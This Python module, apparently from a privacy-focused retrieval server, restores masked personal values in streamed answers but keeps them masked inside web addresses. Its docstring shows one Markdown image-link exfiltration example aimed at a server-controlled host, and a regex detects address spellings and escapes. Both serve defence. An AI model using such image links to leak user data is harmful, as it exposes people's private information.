"""Keep restored values out of web addresses in answers.

The server is not trusted. It could answer `![](https://its.own.host/?q=PERSON_[...])`. A client
that shows images fetches this address; with the name restored in it, the server would receive a
value that it cannot decrypt.
"""

from __future__ import annotations

import re
from collections.abc import Callable, Collection

from sage_rag.privacy.tokens import LOOSE, StreamReplacer
from sage_rag.rag_server.edge.shown_values import is_short

_ADDRESS = re.compile(
    r"https?\\?:|[/\\]{2}|www\.|url\(|\\0{0,4}2f|\\u00[2-7]|&(?:#|sol|bsol|colon|tab|newline)",
    re.IGNORECASE,
)
"""The signs of an address: a scheme, two slashes or backslashes, `www.`, or escapes in Markdown,
HTML, CSS or JSON that spell one of them."""
_FOUND = "//"
_LONGEST_CUT = 8
"""A spelling that `_ADDRESS` finds has at most this many characters before a cut."""
_IGNORED = dict.fromkeys(map(ord, "\t\n\r"))
"""Browsers delete these characters from an address."""
_SPACES = " \t\n\r\f"
"""These end an address in Markdown (CommonMark 0.31, §6.3), and in HTML without quotes."""
_FIRST_WORD = re.compile(r"[^\W_]+")
_LAST_WORD = re.compile(r"[^\W_]+\Z")
_MARKS = re.compile(rf"[{_SPACES}<>\\\"'=]")

Replace = Callable[[re.Match[str]], str]


class AddressTracker:
    """Track whether the end of a growing text lies inside a web address, in bounded memory.

    It follows three kinds of constructs: a word; a Markdown `<...>`, which an escaped bracket does
    not end; and a quoted attribute, by its quotation marks alone, because parsers disagree about
    where a tag begins and ends. In JSON source a quotation mark ends all of them.
    """

    def __init__(self, *, in_json: bool = False) -> None:
        self._in_json = in_json
        self._open = {"word": ""}
        self._escaped = self._assigned = False

    @property
    def in_address(self) -> bool:
        """Whether text appended here would belong to a web address."""
        return _FOUND in self._open.values()

    def read(self, text: str) -> None:
        """Read the next piece; the text may be cut anywhere."""
        begun = dict.fromkeys(self._open, 0)
        escaped, assigned = (0 if flag else -1 for flag in (self._escaped, self._assigned))
        for match in _MARKS.finditer(text):
            mark, at = match.group(), match.start()
            if mark == "=" or (at == assigned and mark in f"{_SPACES}\\"):
                assigned = at + 1
            if mark == "\\":
                escaped = at + 1 if at != escaped else -1
            elif mark in _SPACES:
                self._begin("word", at + 1, begun)
            elif mark == '"' and self._in_json and at != escaped:
                self._open.clear()
                begun.clear()
                self._begin("word", at + 1, begun)
            elif mark in "\"'":
                self._end(mark, begun)
                if at == assigned:
                    self._begin(mark, at + 1, begun)
            elif mark in "<>" and at != escaped:
                self._end("<", begun)
                if mark == "<":
                    self._begin("<", at + 1, begun)
        self._escaped, self._assigned = escaped == len(text), assigned == len(text)
        self._open = {name: _short(self._open[name] + text[at:]) for name, at in begun.items()}

    def _begin(self, name: str, at: int, begun: dict[str, int]) -> None:
        self._open[name], begun[name] = "", at

    def _end(self, name: str, begun: dict[str, int]) -> None:
        self._open.pop(name, None)
        begun.pop(name, None)


def _short(text: str) -> str:
    """Return the part of a text to store: a mark for an address, or its last characters."""
    text = text.translate(_IGNORED)
    return _FOUND if _ADDRESS.search(text) else text[-_LONGEST_CUT:]


def replace_outside_addresses(
    text: str, replace: Replace, *, in_json: bool = False, displayed: bool = False
) -> str:
    """Replace every token of a text, except tokens in web addresses; see `GuardedStream`."""
    if "_" not in text or not LOOSE.opener.search(text):  # as most texts of an answer
        return text
    stream = GuardedStream(replace, in_json=in_json, displayed=displayed)
    return stream.feed(text) + stream.flush()


class GuardedStream:
    """Replace tokens outside web addresses in text that arrives in pieces.

    Addresses are searched in the output, because the value of a token may itself be an address. A
    short value gets a space on the side of a letter or digit: inside a word it would not be found
    when the client sends the text back.
    """

    def __init__(
        self,
        replace: Replace,
        *,
        in_json: bool = False,
        displayed: bool = False,
        preceding: Collection[GuardedStream] = (),
    ) -> None:
        """`in_json`: the text is JSON source, in which a quotation mark ends an address, unless a
        client may also display the source itself. `preceding`: texts that a client may put before
        this one.
        """
        self._replace = replace
        self._preceding = preceding
        self._in_json = in_json
        self._tracker = AddressTracker(in_json=in_json and not displayed)
        self._replacer = StreamReplacer(LOOSE, self._value)
        self._taken = self._given = 0
        self._last = ""
        """The last character of the output."""
        self._ends_short = False
        """Whether the last value ends with a short word, and what follows it is not known."""
        self._begins_glued = False
        """The same at the beginning of the output of a piece."""

    @property
    def in_address(self) -> bool:
        """Whether the output so far ends inside a web address."""
        return self._tracker.in_address

    def feed(self, piece: str) -> str:
        """Add the next piece; return the output that is now certain."""
        return self._read(self._replacer.feed(piece))

    def flush(self) -> str:
        """Return the text that was held back, at its end or at a pause."""
        return self._read(self._replacer.flush())

    def _read(self, given: str) -> str:
        """Read the text after the last token."""
        if rest := given[self._given :]:
            self._tracker.read(rest)
        self._taken = self._given = 0
        if not given:
            return ""
        apart = self._begins_glued and self._continues_word(given[0])
        self._begins_glued = self._ends_short and not rest
        self._ends_short = False
        self._last = given[-1]
        return f" {given}" if apart else given

    def _value(self, match: re.Match[str]) -> str:
        between = match.string[self._taken : match.start()]
        self._tracker.read(between)
        kept = self.in_address or any(text.in_address for text in self._preceding)
        after = match.string[match.end() : match.end() + 1]
        before = between[-1:] or self._last
        value = match.group() if kept else self._apart(before, self._replace(match), after)
        self._tracker.read(value)
        self._taken = match.end()
        self._given += len(between) + len(value)
        self._last = value[-1:] or before
        return value

    def _apart(self, before: str, value: str, after: str) -> str:
        """Return a value with spaces where a short word of it would be part of a longer one."""
        first, last = _FIRST_WORD.match(value), _LAST_WORD.search(value)
        if first and before.isalnum() and is_short(first.group()):
            value = f" {value}"
        self._ends_short = False
        if last and is_short(last.group()):
            if self._continues_word(after):
                return f"{value} "
            self._ends_short = not after
        return value

    def _continues_word(self, after: str) -> bool:
        return after.isalnum() or (self._in_json and after == "\\")
